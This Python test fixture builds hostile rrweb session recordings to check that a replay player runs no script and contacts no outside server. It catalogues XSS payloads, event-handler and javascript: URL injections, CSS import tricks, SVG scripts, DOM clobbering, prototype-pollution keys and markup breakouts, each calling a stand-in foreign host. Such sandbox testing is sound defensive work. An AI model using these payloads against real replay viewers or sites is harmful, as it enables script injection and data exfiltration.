"""Recordings that try to run something, or to reach a foreign server, where they are played."""

from collections.abc import Callable, Mapping
from typing import Any

Event = dict[str, Any]
Node = dict[str, Any]
AT = 1_700_000_000_000

# Sets the canary in the document that shows the recording and in whatever is around it, and calls home.
SCRIPT = (
    "window.canary=1;try{{top.canary=1}}catch(e){{}};try{{parent.postMessage('canary','*')}}catch(e){{}};"
    "new Image().src='{foreign}/script';fetch('{foreign}/fetch')"
)


class Page:
    """The nodes of a page, with ids as rrweb gives them."""

    def __init__(self) -> None:
        self._last_id = 10

    def element(
        self, tag: str, children: list[Node] | None = None, is_svg: bool = False, **attributes: Any
    ) -> Node:
        self._last_id += 1
        named = {name.replace("__", ":").replace("_of_", "-"): value for name, value in attributes.items()}
        node: Node = {"type": 2, "tagName": tag, "attributes": named, "childNodes": children or []}
        return {**node, "id": self._last_id, **({"isSVG": True} if is_svg else {})}

    def text(self, content: str, is_style: bool = False) -> Node:
        self._last_id += 1
        node: Node = {"type": 3, "textContent": content, "id": self._last_id}
        return {**node, "isStyle": True} if is_style else node


Content = tuple[list[Node], list[Node]]
"""What stands in the head, and in the body."""


def snapshot(head: list[Node], body: list[Node]) -> list[Event]:
    html = {
        "type": 2,
        "tagName": "html",
        "attributes": {},
        "id": 3,
        "childNodes": [
            {"type": 2, "tagName": "head", "attributes": {}, "childNodes": head, "id": 4},
            {"type": 2, "tagName": "body", "attributes": {}, "childNodes": body, "id": 5},
        ],
    }
    doctype = {"type": 1, "name": "html", "publicId": "", "systemId": "", "id": 2}
    document = {"type": 0, "childNodes": [doctype, html], "id": 1}
    return [
        {"type": 4, "timestamp": AT, "data": {"href": "http://shop.example/", "width": 800, "height": 600}},
        {"type": 2, "timestamp": AT + 10, "data": {"node": document, "initialOffset": {"top": 0, "left": 0}}},
    ]


def changes(at: int = 100, **data: Any) -> Event:
    whole = {"source": 0, "texts": [], "attributes": [], "removes": [], "adds": [], **data}
    return {"type": 3, "timestamp": AT + at, "data": whole}


def adds(*nodes: Node, parent: int = 5, at: int = 100) -> Event:
    return changes(at, adds=[{"parentId": parent, "nextId": None, "node": node} for node in nodes])


def added_later(content: Content) -> list[Event]:
    """The same nodes, once in the snapshot and once more as a change."""
    head, body = content
    marker = Page().text("played")
    again = [adds(_renumbered(node, 1000)) for node in (*head, *body)]
    return [*snapshot(head, [*body, {**marker, "id": 900}]), *again, adds({**marker, "id": 901}, at=400)]


def _renumbered(node: Node, by: int) -> Node:
    children = [_renumbered(child, by) for child in node.get("childNodes", [])]
    return {**node, "id": node["id"] + by, **({"childNodes": children} if "childNodes" in node else {})}


def hostile_recordings(foreign: str) -> Mapping[str, list[Event]]:
    """By name; `foreign` is the address of a server that must hear nothing."""
    script, page = SCRIPT.format(foreign=foreign), Page()
    made: dict[str, Callable[[], Content | list[Event]]] = {
        "script elements": lambda: (
            [page.element("script", [page.text(script)]), page.element("SCRIPT", src=f"{foreign}/a.js")],
            [
                page.element("script", [page.text(script)], is_svg=True),
                page.element("scrIPT", [page.text(script)]),
            ],
        ),
        "event attributes": lambda: (
            [],
            [
                page.element("img", src="data:,", onerror=script),
                page.element("img", src="x:", ONERROR=script),
                page.element("body", onload=script, onpageshow=script),
                page.element("details", [page.text("x")], open="", ontoggle=script),
                page.element("input", autofocus="", onfocus=script),
                page.element("div", style="animation: a 1ms", onanimationstart=script, onanimationend=script),
                page.element("svg", is_svg=True, onload=script),
                page.element("video", [page.element("source", src="data:,", onerror=script)], onerror=script),
            ],
        ),
        "links that run": lambda: (
            [],
            [
                page.element("a", [page.text("x")], href=f"javascript:{script}", id="link"),
                page.element("a", [page.text("x")], href=f" \tjAvaScript\n:{script}", target="_top"),
                page.element("area", href=f"javascript:{script}"),
                page.element(
                    "form",
                    [page.element("button", formaction=f"javascript:{script}")],
                    action=f"javascript:{script}",
                ),
                page.element("iframe", src=f"javascript:{script}"),
            ],
        ),
        "frames": lambda: (
            [],
            [
                page.element("iframe", src=f"{foreign}/frame"),
                page.element("iframe", srcdoc=f"<script>{script}</script>"),
                page.element("iframe", src=f"data:text/html,<script>{script}</script>"),
                page.element("iFrame", src=f"{foreign}/upper"),
                page.element("frameset", [page.element("frame", src=f"{foreign}/frameset")]),
                page.element("portal", src=f"{foreign}/portal"),
            ],
        ),
        "objects and embeds": lambda: (
            [],
            [
                page.element("object", data=f"{foreign}/object"),
                page.element("object", data=f"data:text/html,<script>{script}</script>"),
                page.element("embed", src=f"{foreign}/embed"),
                page.element(
                    "embed",
                    src=f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{script}'/>",
                ),
                page.element("applet", code="x", codebase=f"{foreign}/applet"),
            ],
        ),
        "refreshes and bases": lambda: (
            [
                page.element(
                    "meta",
                    **dict[str, Any]({"http_of_equiv": "refresh", "content": f"0;url={foreign}/refresh"}),
                ),
                page.element(
                    "META",
                    **dict[str, Any]({"http_of_equiv": "REFRESH", "content": f"0;url=javascript:{script}"}),
                ),
                page.element("base", href=f"{foreign}/"),
            ],
            [page.element("img", src="relative.png")],
        ),
        "links of the head": lambda: (
            [
                page.element(
                    "link",
                    rel=rel,
                    href=f"{foreign}/{rel.replace(' ', '')}",
                    **dict[str, Any]({"as": "script"}),
                )
                for rel in (
                    "stylesheet",
                    "preload",
                    "prefetch",
                    "preconnect",
                    "dns-prefetch",
                    "modulepreload",
                    "prerender",
                    "icon",
                    "manifest",
                    "alternate stylesheet",
                    "expect",
                )
            ],
            [page.element("link", rel="preconnect", href=foreign)],
        ),
        "style sheets that import": lambda: (
            [
                page.element(
                    "style",
                    [page.text(f"@import '{foreign}/import.css'; @import url({foreign}/i.css);", True)],
                ),
                page.element(
                    "link",
                    rel="stylesheet",
                    href=f"{foreign}/sheet.css",
                    _cssText=f"@import url('{foreign}/in.css'); body {{ background: url({foreign}/in.png) }}",
                ),
                page.element("style", [page.text(f"@\\69mport '{foreign}/escaped.css';", True)]),
            ],
            [],
        ),
        "style sheets that load": lambda: (
            [
                page.element(
                    "style",
                    [
                        page.text(
                            f"@font-face {{ font-family: f; src: url({foreign}/f.woff2) }} "
                            "body { font-family: f; "
                            f"background: url('{foreign}/a.png'); cursor: url({foreign}/c.cur), auto; "
                            f"list-style: url({foreign}/l.png); border-image: url({foreign}/b.png) 1 }} "
                            f"p::before {{ content: url({foreign}/p.png) }} "
                            f"p {{ background: image-set('{foreign}/s.png' 1x); "
                            f"mask: u\\72l({foreign}/m.svg#m) }}",
                            True,
                        )
                    ],
                )
            ],
            [
                page.element("p", [page.text("x")]),
                page.element("p", [page.text("y")], style=f"background: url({foreign}/inline.png)"),
            ],
        ),
        "images": lambda: (
            [],
            [
                page.element("img", src=f"{foreign}/img.png", srcset=f"{foreign}/img2.png 2x"),
                page.element("img", rr_dataURL=f"{foreign}/data.png"),
                page.element(
                    "picture", [page.element("source", srcset=f"{foreign}/picture.png"), page.element("img")]
                ),
                page.element("input", type="image", src=f"{foreign}/input.png"),
                page.element("table", background=f"{foreign}/background.png"),
                page.element("img", src=f"//{foreign.removeprefix('http://')}/relative.png"),
                page.element("canvas", rr_dataURL=f"{foreign}/canvas.png"),
            ],
        ),
        "media": lambda: (
            [],
            [
                page.element(
                    "video",
                    src=f"{foreign}/v.mp4",
                    poster=f"{foreign}/poster.png",
                    autoplay="",
                    rr_mediaState="played",
                ),
                page.element(
                    "audio", [page.element("source", src=f"{foreign}/a.mp3")], rr_mediaState="played"
                ),
                page.element(
                    "video", [page.element("track", src=f"{foreign}/t.vtt", default="")], preload="auto"
                ),
            ],
        ),
        "drawings that run": lambda: (
            [],
            [
                page.element(
                    "svg",
                    [
                        page.element("script", [page.text(script)], is_svg=True),
                        page.element(
                            "script",
                            is_svg=True,
                            href=f"{foreign}/svg.js",
                            **dict[str, Any]({"xlink__href": f"{foreign}/svg2.js"}),
                        ),
                        page.element(
                            "a",
                            [
                                page.element(
                                    "animate",
                                    is_svg=True,
                                    attributeName="href",
                                    values=f"javascript:{script}",
                                )
                            ],
                            is_svg=True,
                        ),
                        page.element("set", is_svg=True, attributeName="onload", to=script),
                        page.element("animate", is_svg=True, onbegin=script, attributeName="x", dur="1ms"),
                        page.element("handler", [page.text(script)], is_svg=True),
                        page.element(
                            "foreignObject",
                            [page.element("iframe", srcdoc=f"<script>{script}</script>")],
                            is_svg=True,
                        ),
                    ],
                    is_svg=True,
                )
            ],
        ),
        "drawings that load": lambda: (
            [],
            [
                page.element(
                    "svg",
                    [
                        page.element("image", is_svg=True, href=f"{foreign}/image.png"),
                        page.element(
                            "image", is_svg=True, **dict[str, Any]({"xlink__href": f"{foreign}/image2.png"})
                        ),
                        page.element("use", is_svg=True, href=f"{foreign}/use.svg#a"),
                        page.element("feImage", is_svg=True, href=f"{foreign}/fe.png"),
                        page.element(
                            "rect",
                            is_svg=True,
                            fill=f"url({foreign}/fill.svg#a)",
                            filter=f"url({foreign}/filter.svg#a)",
                            width="9",
                            height="9",
                        ),
                        page.element(
                            "style", [page.text(f"rect {{ fill: url({foreign}/style.svg#a) }}")], is_svg=True
                        ),
                    ],
                    is_svg=True,
                )
            ],
        ),
        "forms": lambda: (
            [],
            [
                page.element(
                    "form",
                    [
                        page.element("input", name="a", value="secret"),
                        page.element(
                            "button", [page.text("go")], formaction=f"{foreign}/formaction", autofocus=""
                        ),
                    ],
                    action=f"{foreign}/form",
                    method="post",
                ),
                page.element("a", [page.text("x")], href=f"{foreign}/a", ping=f"{foreign}/ping"),
                page.element("isindex", action=f"{foreign}/isindex"),
            ],
        ),
        "names that hide those of the document": lambda: (
            [],
            [
                page.element("img", name=name)
                for name in (
                    "createElement",
                    "getElementById",
                    "querySelectorAll",
                    "open",
                    "close",
                    "body",
                    "head",
                    "documentElement",
                    "defaultView",
                )
            ]
            + [
                page.element(
                    "form",
                    [page.element("input", name="attributes"), page.element("input", name="removeChild")],
                    name="implementation",
                )
            ],
        ),
        "changed attributes": lambda: [
            *snapshot(
                [],
                [
                    {**page.element("img"), "id": 700},
                    {**page.element("a", [page.text("x")]), "id": 701},
                    {**page.element("div"), "id": 702},
                ],
            ),
            changes(
                attributes=[
                    {
                        "id": 700,
                        "attributes": {
                            "src": f"{foreign}/changed.png",
                            "onerror": script,
                            "srcset": f"{foreign}/c2.png 1x",
                        },
                    },
                    {
                        "id": 701,
                        "attributes": {
                            "href": f"javascript:{script}",
                            "ping": f"{foreign}/ping",
                            "onfocus": script,
                        },
                    },
                    {
                        "id": 702,
                        "attributes": {
                            "style": {
                                "background": f"url({foreign}/style.png)",
                                "background-image": [f"url({foreign}/s2.png)", "important"],
                            },
                            "onclick": script,
                            "onmouseover": script,
                        },
                    },
                    {"id": 5, "attributes": {"background": f"{foreign}/body.png", "onload": script}},
                ]
            ),
            {
                "type": 3,
                "timestamp": AT + 200,
                "data": {
                    "source": 13,
                    "id": 702,
                    "set": {"property": "background", "value": f"url({foreign}/set.png)"},
                    "index": [0],
                },
            },
            {"type": 3, "timestamp": AT + 250, "data": {"source": 2, "type": 2, "id": 701, "x": 1, "y": 1}},
            {"type": 3, "timestamp": AT + 260, "data": {"source": 2, "type": 5, "id": 702, "x": 1, "y": 1}},
        ],
        "changed style sheets": lambda: [
            *snapshot(
                [{**page.element("style", [{**page.text("p { color: red }", True), "id": 801}]), "id": 800}],
                [page.element("p", [page.text("x")])],
            ),
            changes(
                texts=[
                    {
                        "id": 801,
                        "value": f"@import '{foreign}/text.css'; p {{ background: url({foreign}/text.png) }}",
                    }
                ]
            ),
            {
                "type": 3,
                "timestamp": AT + 150,
                "data": {
                    "source": 8,
                    "id": 800,
                    "adds": [{"rule": f"p {{ background: url({foreign}/rule.png) }}", "index": 0}],
                },
            },
            {
                "type": 3,
                "timestamp": AT + 160,
                "data": {
                    "source": 8,
                    "id": 800,
                    "replaceSync": f"@import '{foreign}/r.css'; p {{ background: url({foreign}/r.png) }}",
                },
            },
            {
                "type": 3,
                "timestamp": AT + 170,
                "data": {
                    "source": 15,
                    "id": 1,
                    "styleIds": [1],
                    "styles": [
                        {
                            "styleId": 1,
                            "rules": [
                                {"rule": f"p {{ background: url({foreign}/adopted.png) }}", "index": 0}
                            ],
                        }
                    ],
                },
            },
        ],
        "fonts, canvas and media": lambda: [
            *snapshot(
                [],
                [
                    {**page.element("canvas", width="9", height="9"), "id": 600},
                    {**page.element("video"), "id": 601},
                ],
            ),
            {
                "type": 3,
                "timestamp": AT + 100,
                "data": {
                    "source": 10,
                    "family": "f",
                    "fontSource": f"url({foreign}/font.woff)",
                    "buffer": False,
                },
            },
            {
                "type": 3,
                "timestamp": AT + 110,
                "data": {
                    "source": 9,
                    "id": 600,
                    "type": 0,
                    "commands": [
                        {
                            "property": "drawImage",
                            "args": [{"rr_type": "HTMLImageElement", "src": f"{foreign}/canvas.png"}, 0, 0],
                        }
                    ],
                },
            },
            {
                "type": 3,
                "timestamp": AT + 120,
                "data": {
                    "source": 9,
                    "id": 600,
                    "type": 0,
                    "property": "constructor",
                    "args": [{"rr_type": "Function", "args": [script]}],
                },
            },
            {
                "type": 3,
                "timestamp": AT + 130,
                "data": {"source": 7, "id": 601, "type": 0, "currentTime": 1, "volume": 1},
            },
            {
                "type": 6,
                "timestamp": AT + 140,
                "data": {
                    "plugin": "rrweb/console@1",
                    "payload": {"level": "log", "payload": [script], "trace": []},
                },
            },
        ],
        "documents within frames": lambda: [
            *snapshot([], [{**page.element("iframe"), "id": 500}]),
            changes(
                isAttachIframe=True,
                adds=[
                    {
                        "parentId": 500,
                        "nextId": None,
                        "node": {
                            "type": 0,
                            "id": 501,
                            "rootId": 501,
                            "childNodes": [
                                {
                                    "type": 2,
                                    "tagName": "html",
                                    "attributes": {},
                                    "id": 502,
                                    "rootId": 501,
                                    "childNodes": [
                                        page.element("script", [page.text(script)]),
                                        page.element("img", src=f"{foreign}/inner.png"),
                                    ],
                                }
                            ],
                        },
                    }
                ],
            ),
            adds(
                {
                    **page.element("div", [page.element("script", [page.text(script)])], onclick=script),
                    "isShadowHost": True,
                    "id": 503,
                }
            ),
        ],
        "shadow trees and templates": lambda: (
            [],
            [
                {
                    **page.element(
                        "x-host",
                        [
                            {
                                **page.element("img", src=f"{foreign}/shadow.png", onerror=script),
                                "isShadow": True,
                            },
                            {
                                **page.element("style", [page.text(f"@import '{foreign}/shadow.css'")]),
                                "isShadow": True,
                            },
                        ],
                    ),
                    "isShadowHost": True,
                    "isCustom": True,
                },
                page.element(
                    "template", [page.element("script", [page.text(script)])], shadowrootmode="open"
                ),
                page.element("noscript", [page.text(f"<img src='{foreign}/noscript.png'>")]),
                page.element("xmp", [page.text(f"<script>{script}</script>")]),
                page.element(
                    "math", [page.element("maction", href=f"javascript:{script}", actiontype="statusline")]
                ),
                page.element("button", [page.text("x")], popovertarget="p", onbeforetoggle=script),
            ],
        ),
        "events that are none": lambda: [
            *snapshot(
                [page.element("title", [page.text("</title><script>" + script + "</script>")])],
                [page.text("</script><script>" + script)],
            ),
            {"type": 3, "timestamp": AT + 50, "data": {"source": 0}},
            {"type": 3, "timestamp": AT + 60, "data": {"source": "0", "adds": [script]}},
            {
                "type": 3,
                "timestamp": AT + 70,
                "data": {
                    "source": 0,
                    "adds": [
                        {
                            "parentId": 5,
                            "nextId": None,
                            "node": {
                                "type": 2,
                                "tagName": "img src=x onerror=" + script,
                                "attributes": {"__proto__": {"onerror": script}, "constructor": script},
                                "childNodes": {},
                                "id": 400,
                            },
                        }
                    ],
                },
            },
            {
                "type": 3,
                "timestamp": AT + 80,
                "data": {
                    "source": 0,
                    "adds": [
                        {
                            "parentId": 5,
                            "nextId": None,
                            "node": {"type": 4, "textContent": f"]]><script>{script}</script>", "id": 401},
                        },
                        {
                            "parentId": 5,
                            "nextId": None,
                            "node": {"type": 5, "textContent": f"--><script>{script}</script>", "id": 402},
                        },
                    ],
                },
            },
            {
                "type": 5,
                "timestamp": AT + 90,
                "data": {
                    "tag": "breadcrumb",
                    "payload": {
                        "category": "console",
                        "level": "error",
                        "message": f"<img src={foreign}/crumb.png onerror={script}>",
                        "data": {},
                    },
                },
            },
            {
                "type": 5,
                "timestamp": AT + 95,
                "data": {
                    "tag": "breadcrumb",
                    "payload": {"category": "navigation", "data": {"to": f"javascript:{script}"}},
                },
            },
        ],
    }
    recordings: dict[str, list[Event]] = {}
    for name, make in made.items():
        found = make()
        recordings[name] = found if isinstance(found, list) else added_later(found)
    return recordings
